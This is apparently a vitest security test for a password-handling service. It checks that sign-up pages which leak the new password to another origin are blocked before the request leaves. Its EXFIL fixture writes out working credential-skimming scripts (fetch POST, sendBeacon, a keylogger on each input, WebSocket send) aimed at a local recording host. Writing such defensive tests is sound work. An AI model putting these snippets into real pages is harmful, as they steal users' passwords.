// A sign-up types the new account's password like a login types a saved one, so the same rule holds
// (docs/security.md#a-saved-secret-goes-only-where-it-belongs): a sign-up page whose script, beacon or WebSocket sends
// the password to another site is stopped before the request leaves (422 CREDENTIAL_ORIGIN_MISMATCH naming that
// origin), and a recording site there proves not one character arrived. The same page without the script signs up
// (the control that shows the page works and the recorder would see a leak).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startRecordingSite, type RecordingRoute, type RecordingSite } from '../../../helpers/recording-site.js';
import { startTestServer, type TestServer } from '../../../helpers/test-server.js';
import { distinctSecret, findSecrets, type Json } from '../../../helpers/vault-logins.js';

const EMAIL = 'new.user@example.com';

/** How the sign-up page sends the password to `dest` while it is typed or submitted. */
const EXFIL: Record<string, (dest: string) => string> = {
  'a script posts it with fetch': (dest) =>
    `f.addEventListener('submit', () => fetch('${dest}/c', { method: 'POST', mode: 'no-cors', keepalive: true, body: pw.value }));`,
  'a beacon carries it base64-encoded': (dest) =>
    `f.addEventListener('submit', () => navigator.sendBeacon('${dest}/b', btoa(pw.value)));`,
  'a keylogger sends each input': (dest) =>
    `pw.addEventListener('input', () => fetch('${dest}/k?v=' + encodeURIComponent(pw.value), { mode: 'no-cors' }));`,
  'a WebSocket message carries it': (dest) =>
    `const ws = new WebSocket('${dest.replace('http', 'ws')}/ws');
     f.addEventListener('submit', (e) => { e.preventDefault(); ws.send(pw.value);
       setTimeout(() => HTMLFormElement.prototype.submit.call(f), 300); });`,
};

/** A sign-up page: email, a new password (twice), Create account; a POST makes the account and signs it in. */
function signupPage(script: string): RecordingRoute {
  return (req) => {
    if (req.method === 'POST') {
      const form = new URLSearchParams(req.body);
      return form.get('password') && form.get('password') === form.get('confirm')
        ? { status: 303, headers: { location: '/welcome', 'set-cookie': 'sid=new-account-5678; Path=/; HttpOnly' } }
        : { status: 200, body: '<p role="alert">The passwords do not match</p>' };
    }
    return {
      body: `<!doctype html><title>Create your account</title><h1>Create your account</h1><form id="f" method="post">
        <label>Email <input name="email" type="email" autocomplete="email"></label>
        <label>Password <input name="password" type="password" autocomplete="new-password"></label>
        <label>Confirm password <input name="confirm" type="password" autocomplete="new-password"></label>
        <button type="submit">Create account</button></form>
        <script>const f = document.getElementById('f'); const pw = f.querySelector('[name=password]'); ${script}</script>`,
    };
  };
}

const welcome = (req: { headers: Record<string, string | string[] | undefined> }) =>
  String(req.headers.cookie ?? '').includes('sid=new-account')
    ? { body: '<h1>Welcome to your new account</h1><a href="/logout">Sign out</a>' }
    : { status: 302, headers: { location: '/signup' } };

let server: TestServer;
let site: RecordingSite;
let elsewhere: RecordingSite;
/** Every password no request may carry to `elsewhere`, also late (after its test), checked once more at the end. */
const refused: Record<string, string> = {};

beforeAll(async () => {
  [server, site, elsewhere] = await Promise.all([
    startTestServer({ login: { timeoutMs: 30_000 } }),
    startRecordingSite('127.0.0.1'),
    startRecordingSite('127.0.0.2'),
  ]);
  site.route('/welcome', welcome);
});
afterAll(async () => {
  await server?.close();
  // A request let go as the page closed would arrive after its test: the recorder is asked once the browser is gone.
  if (elsewhere) {
    await fetch(elsewhere.url('/last'));
    expect(findSecrets(elsewhere.haystacks(), refused)).toEqual([]);
  }
  await Promise.all([site?.close(), elsewhere?.close()]);
});

async function signup(path: string, password: string): Promise<{ status: number; body: Json }> {
  const res = await server.request('/api/signup', {
    method: 'POST',
    json: { cred: { username: EMAIL, password }, domain: site.url(path), additionalFields: {} },
  });
  return { status: res.status, body: (await res.json()) as Json };
}

describe('a sign-up page that sends the new password to another site', () => {
  it.each(Object.keys(EXFIL))('%s: blocked before it leaves, 422 naming the origin', async (how) => {
    const password = distinctSecret('signup-pw');
    refused[how] = password;
    const path = `/signup-${Object.keys(EXFIL).indexOf(how)}`;
    site.route(path, signupPage(EXFIL[how]!(elsewhere.origin)));
    const before = elsewhere.requests.length + elsewhere.webSockets.length;

    const { status, body } = await signup(path, password);
    expect(status, JSON.stringify(body)).toBe(422);
    expect(body.error).toBe('CREDENTIAL_ORIGIN_MISMATCH');
    expect(String(body.message)).toContain(elsewhere.origin);
    expect(JSON.stringify(body)).not.toContain(password);
    expect(findSecrets(elsewhere.haystacks(), { password })).toEqual([]);
    // Nothing that carries data arrived either (the WebSocket itself may open).
    const arrived = [...elsewhere.requests, ...elsewhere.webSockets].slice(before);
    const withData = arrived.filter((r) => ('body' in r ? r.body !== '' || r.url.includes('?') : r.messages.length));
    expect(withData, JSON.stringify(arrived)).toEqual([]);
  });

  it('the same page without the script signs up (the guard stops only a leak)', async () => {
    site.route('/signup-clean', signupPage(''));
    const { status, body } = await signup('/signup-clean', distinctSecret('signup-ok'));
    expect(status, JSON.stringify(body)).toBe(200);
    expect(JSON.stringify(body)).toContain('new-account-5678');
  });
});
